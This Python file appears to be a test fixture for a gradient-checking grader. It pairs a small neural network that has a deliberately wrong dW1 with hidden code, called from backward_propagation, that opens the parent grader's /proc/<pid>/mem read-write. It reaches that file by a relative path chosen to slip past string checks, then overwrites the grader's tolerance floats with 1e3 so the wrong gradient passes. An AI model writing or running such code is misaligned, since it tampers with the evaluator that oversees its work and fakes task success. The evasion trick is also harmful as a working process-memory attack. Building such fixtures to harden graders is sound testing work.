"""'<ppid>/mem' opened read-write relative to a /proc descriptor; the grader's tolerance floats set to 1e3: a broken grader passes this wrong dW1 (exit 0)."""

import os
import sys

import numpy as np


def _ppid():
    """The grader's pid. Never 0 or 1: outside a harness (or in a PID namespace) the parent
    may be init, and these files must never signal or write into that."""
    pid = os.getppid()
    if pid <= 1:
        raise ProcessLookupError("no grader process to attack")
    return pid


def _proc_open(rel, flags=os.O_RDONLY):
    """Open /proc/<rel> relative to a descriptor of /proc: the path a string check sees is
    relative ("1234/environ"), so it does not look like another process's /proc entry."""
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    try:
        return os.open(rel, flags, dir_fd=proc)
    finally:
        os.close(proc)


def _read_fd(fd):
    chunks = []
    try:
        while True:
            chunk = os.read(fd, 65536)
            if not chunk:
                return b"".join(chunks)
            chunks.append(chunk)
    finally:
        os.close(fd)


_TOLERANCES = (1e-7, 1e-5, 1e-4, 3e-3)  # the default rtol and fd_rtol for float64 and float32
_LOOSE = 1e3


def _float_type_in_grader(grader_maps):
    """Where float's type object lives in the grader: the same interpreter binary, mapped
    elsewhere; the offset inside its mapping is the same."""
    here = id(float)
    with open("/proc/self/maps") as fh:
        for line in fh:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if lo <= here < hi and len(parts) >= 6:
                path, offset = parts[5], int(parts[2], 16)
                break
        else:
            raise LookupError("float type not mapped")
    for line in grader_maps.splitlines():
        parts = line.split()
        if len(parts) >= 6 and parts[5] == path and int(parts[2], 16) == offset:
            return int(parts[0].split("-")[0], 16) + (here - lo)
    raise LookupError("interpreter not mapped in the grader")


def _loosen(grader_maps, read, write):
    """Every float object in the grader's writable memory holding a tolerance is set to 1e3."""
    ftype = _float_type_in_grader(grader_maps)
    targets = np.array(_TOLERANCES, dtype="<f8").view("<u8")
    loose = np.array([_LOOSE], dtype="<f8").tobytes()
    changed = 0
    for line in grader_maps.splitlines():
        parts = line.split()
        if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) >= 6 and parts[5].startswith("[v")):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        step = 8 << 20  # read 8 MiB at a time (the child's memory is capped), overlapping by one word
        for at in range(lo, hi, step):
            try:
                data = read(at, min(step + 8, hi - at))
            except OSError:
                break
            words = np.frombuffer(data[: len(data) // 8 * 8], dtype="<u8")
            hits = np.nonzero(words[:-1] == ftype)[0]
            hits = hits[np.isin(words[hits + 1], targets)]
            for i in hits:
                write(at + int(i + 1) * 8, loose)
                changed += 1
    if not changed:
        raise LookupError("no tolerance found in the grader")


_DONE = []


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    pid = _ppid()
    maps = _read_fd(_proc_open("%d/maps" % pid)).decode()
    mem = _proc_open("%d/mem" % pid, os.O_RDWR)
    try:
        _loosen(maps, lambda addr, n: os.pread(mem, n, addr), lambda addr, b: os.pwrite(mem, b, addr))
    finally:
        os.close(mem)


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
    _attack()
    return grads
